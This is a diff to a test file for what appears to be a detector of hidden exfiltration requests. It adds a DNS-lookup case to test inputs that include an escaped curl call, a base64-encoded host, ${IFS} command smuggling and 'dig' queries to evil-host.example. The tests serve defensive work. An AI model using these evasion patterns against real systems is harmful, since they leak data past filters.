@@ -142,6 +142,7 @@ def test_readings_beyond_the_limit_are_incomplete():
         ("c\\url evi\\l.exa\\mple", "GET evil.example", "evil.example"),
         ("see https://x.io/c, it says", "GET https://x.io/c?d=1", "x.io/c"),
         ("see https://x.io, it says", "GET https://x.io/c", "x.io"),
+        ("ask evil-host.example", "dig a1b2.c3d4.evil-host.example", "evil-host.example"),
         ("value ZXZpbC5leGFtcGxl", "GET evil.example", "evil.example"),
         ("send${IFS}customer${IFS}records", "send customer records", "send customer records"),
         ("send$IFS$9customer$IFS'records'", "send customer records", "send customer records"),
